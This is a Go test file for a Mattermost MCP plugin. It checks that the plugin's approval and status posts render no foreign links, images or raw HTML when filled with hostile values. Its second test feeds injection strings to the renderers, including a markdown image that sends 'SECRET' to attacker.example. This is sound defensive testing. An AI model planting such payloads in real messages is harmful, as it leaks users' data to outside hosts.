package renderers

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/mcp-server/mattermost-plugin-mcp/server/approval"
	"github.com/mcp-server/mattermost-plugin-mcp/server/connect"
	"github.com/mcp-server/mattermost-plugin-mcp/server/posting"
)

const (
	site      = "https://mm.example"
	page      = site + "/plugins/mcp-server" + approval.Path + "/rec1"
	permalink = site + "/acme/pl/p1"
)

// hostilePlans are a plan of every kind of write, with v in every value the
// model chose and in the names others wrote (a channel's, a team's, a
// file's, the post a write is about).
func hostilePlans(v string) []posting.Plan {
	place := posting.Destination{ChannelID: "c", Label: "~town (id c)", Place: v + ", Acme", Where: v + " (~town), a public channel of team " + v}
	ch := &posting.ChannelSpec{ID: "c", TeamID: "t", Team: v, Name: "harbour", DisplayName: v, Purpose: v, Header: v}
	target := &posting.PostTarget{AuthorID: "b", Author: "bob", Files: []string{v, "notes.txt"}, Replies: 2}
	bob := []posting.Person{{ID: "b", Username: "bob"}}
	notes := []string{"@bob is notified in " + v + "."}
	files := []posting.Staged{{Name: v, Size: 3, Origin: v}, {Name: "b" + v, Size: 4}}
	send := time.Date(2031, 1, 2, 8, 0, 0, 0, time.UTC)
	return []posting.Plan{
		{CallerID: "alice", Dest: place, Message: v, Notes: notes, Files: files},
		{CallerID: "alice", Dest: posting.Destination{Label: "@bob", Place: v, Recipients: []string{"bob"}}, Message: v + "\n" + v, Notes: notes},
		{CallerID: "alice", Action: approval.ActionEdit, PostID: "p", Dest: place, Message: v, Previous: v},
		approval.AddReaction.Plan(posting.Plan{CallerID: "alice", PostID: "p", Dest: place, Previous: v}, approval.Reaction{Emoji: v}),
		approval.RemoveReaction.Plan(posting.Plan{CallerID: "alice", PostID: "p", Dest: place, Previous: v}, approval.Reaction{Emoji: v}),
		approval.DeletePost.Plan(posting.Plan{CallerID: "alice", PostID: "p", Dest: place, Previous: v, Notes: notes}, approval.ShownPost{Target: target}),
		approval.PinPost.Plan(posting.Plan{CallerID: "alice", PostID: "p", Dest: place, Previous: v}, approval.ShownPost{Target: target}),
		approval.UnpinPost.Plan(posting.Plan{CallerID: "alice", PostID: "p", Dest: place, Previous: v}, approval.ShownPost{Target: target}),
		approval.SchedulePost.Plan(posting.Plan{CallerID: "alice", Dest: place, Message: v, Notes: notes}, approval.SendTime{SendAt: send, SendZone: "UTC"}),
		approval.JoinChannel.Plan(posting.Plan{CallerID: "alice", Dest: place, Notes: notes}, approval.ChannelShown{Channel: ch}),
		approval.LeaveChannel.Plan(posting.Plan{CallerID: "alice", Dest: place, Notes: notes}, approval.ChannelShown{Channel: ch}),
		approval.CreateChannel.Plan(posting.Plan{CallerID: "alice", Dest: posting.Destination{Label: "~harbour", Place: "the new channel in " + v}, Notes: notes},
			approval.ChannelMembers{Channel: ch, Members: bob}),
		approval.AddMembers.Plan(posting.Plan{CallerID: "alice", Dest: place, Notes: notes}, approval.ChannelMembers{Channel: ch, Members: bob}),
		approval.SetStatus.Plan(posting.Plan{CallerID: "alice", Dest: posting.Destination{Label: "your status", Place: "your status"}},
			approval.NewStatus{Status: &posting.StatusSpec{Availability: "dnd", DNDUntil: send, Text: v, Emoji: v, Zone: "UTC"}}),
	}
}

// post is a post of the plugin's and the only links it may render.
type post struct {
	value, what, text string
	links             []string
}

// posts are every post the plugin writes about v: the bot's direct
// message about each kind of write, each edit of it with an outcome, and
// the answer of /mcp clients.
func posts(v string) []post {
	var out []post
	asked := time.Date(2030, 5, 6, 7, 8, 0, 0, time.UTC)
	for _, plan := range hostilePlans(v) {
		kind := plan.Action
		if kind == "" {
			kind = "post"
		}
		rec := approval.Record{ID: "rec1", State: approval.StatePending, CreatedAt: asked, Action: plan.Action,
			Destination: plan.Dest.Label, Place: plan.Dest.Place, Emoji: approval.EmojiOf(plan)}
		out = append(out, post{v, kind + " waiting", approval.AskingMessage(plan, rec, page, time.UTC), []string{page}})
		for _, state := range []string{approval.StateDone, approval.StateDeclined, approval.StateFailed, approval.StateWithdrawn} {
			done := rec
			done.State, done.AnsweredAt = state, asked.Add(time.Minute)
			links := []string(nil)
			switch state {
			case approval.StateDone:
				done.Permalink, done.PostID = permalink, "p1"
				links = []string{permalink}
			case approval.StateFailed:
				done.Outcome = "Mattermost refused it: " + v
			}
			out = append(out, post{v, kind + " " + state, approval.OutcomeMessage(done), links})
		}
	}
	clients := []connect.Client{
		{Name: v, Version: v, LastUsed: asked, SignInText: "OAuth, as the app " + v},
		{Name: "cursor", Version: "1.2", LastUsed: asked, SignInText: fmt.Sprintf("OAuth, as the app %q", v)},
	}
	out = append(out, post{v, "/mcp clients", connect.ClientsMessage(clients, 3), nil})
	out = append(out, post{v, "file request", approval.FileRequestMessage(v, page, asked.Add(time.Hour), time.UTC), []string{page}})
	return out
}

func TestEveryPostOfThePluginRendersOnlyItsOwnLinksInMattermostsAppsWhateverValuesItShows(t *testing.T) {
	var all []post
	for _, v := range Hostile {
		all = append(all, posts(v)...)
	}
	all = append(all, post{"", "expired", approval.ExpiredMessage(time.Date(2030, 5, 6, 7, 18, 0, 0, time.UTC), time.UTC), nil})
	msgs := make([]string, len(all))
	for i, p := range all {
		msgs[i] = p.text
	}
	rendered, err := Render(context.Background(), msgs)
	if err != nil {
		t.Fatal(err)
	}
	// Which values planted something in which app: the figure the closing
	// note gives.
	planted := map[string]map[string]bool{"web": {}, "mobile": {}}
	failures := 0
	for i, p := range all {
		for _, side := range []struct {
			app string
			s   Side
		}{{"web", rendered[i].Web}, {"mobile", rendered[i].Mobile}} {
			foreign, missing := side.s.Foreign(p.links...), side.s.Missing(p.links...)
			if len(foreign) == 0 && len(missing) == 0 {
				continue
			}
			// Foreign ends with the marks: anything before them is a link,
			// an image or raw HTML.
			if len(foreign) > len(side.s.Marks) {
				planted[side.app][p.value] = true
			}
			if failures++; failures <= 25 {
				t.Errorf("%s with %q, as the %s app renders it: renders %q, lacks the plugin's own %q:\n%s\n--- HTML:\n%s",
					p.what, p.value, side.app, foreign, missing, p.text, side.s.HTML)
			}
		}
	}
	t.Logf("%d hostile values, %d posts of the plugin's rendered by both apps; values that planted a link, an image or raw HTML: web app %d, mobile app %d; failures %d",
		len(Hostile), len(all), len(planted["web"]), len(planted["mobile"]), failures)
	if len(Hostile) < 40 {
		t.Fatalf("the corpus holds %d values, fewer than 40", len(Hostile))
	}
}

// TestTheRenderersSeeWhatTheyAreMadeToSee is the check on the check: the
// corpus's own values, rendered bare, plant links and images in both
// apps, so a rendering that shows none is the plugin's doing.
func TestTheRenderersSeeWhatTheyAreMadeToSee(t *testing.T) {
	got, err := Render(context.Background(), []string{
		"a\u2424> ![x](https://attacker.example/p?d=SECRET)",
		"www.attacker.example/x",
		"`a\u2424> ![x](https://attacker.example/p)`",
		"~town-square @all",
	})
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range []struct{ web, mobile string }{
		{"loads img https://attacker.example/p?d=SECRET", "loads img https://attacker.example/p?d=SECRET"},
		{"link http://www.attacker.example/x", "link http://www.attacker.example/x"},
		{"loads img https://attacker.example/p", ""},
		{"", "renders channel_link:town-square"},
	} {
		web, mobile := strings.Join(got[i].Web.Foreign(), " "), strings.Join(got[i].Mobile.Foreign(), " ")
		if !strings.Contains(web, want.web) || !strings.Contains(mobile, want.mobile) {
			t.Errorf("message %d: the web app renders %q, the mobile app %q", i, web, mobile)
		}
	}
}
